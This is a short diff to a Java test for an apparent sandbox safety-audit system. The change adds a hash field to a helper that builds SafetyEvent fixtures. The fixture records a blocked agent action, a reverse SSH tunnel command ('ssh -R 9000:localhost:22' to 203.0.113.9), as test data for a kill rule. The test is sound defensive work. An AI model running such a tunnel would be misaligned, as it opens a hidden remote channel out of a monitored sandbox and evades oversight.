@@ -64,7 +64,7 @@ class AuditQueryTest {
 
     private static SafetyEvent event(String rule, Category category, String sandbox, String episode, int step) {
         return new SafetyEvent(rule, category, Severity.HIGH, Action.KILL, sandbox, Optional.of(episode),
-                OptionalInt.of(step), "coder", Instant.parse("2026-03-01T10:00:00Z"), "ssh -R to 203.0.113.9:22",
+                OptionalInt.of(step), "coder", Optional.of("sha256:" + "ab".repeat(32)), Instant.parse("2026-03-01T10:00:00Z"), "ssh -R to 203.0.113.9:22",
                 Map.of("argv", "ssh -R 9000:localhost:22 203.0.113.9", "dest", "203.0.113.9:22"));
     }
 
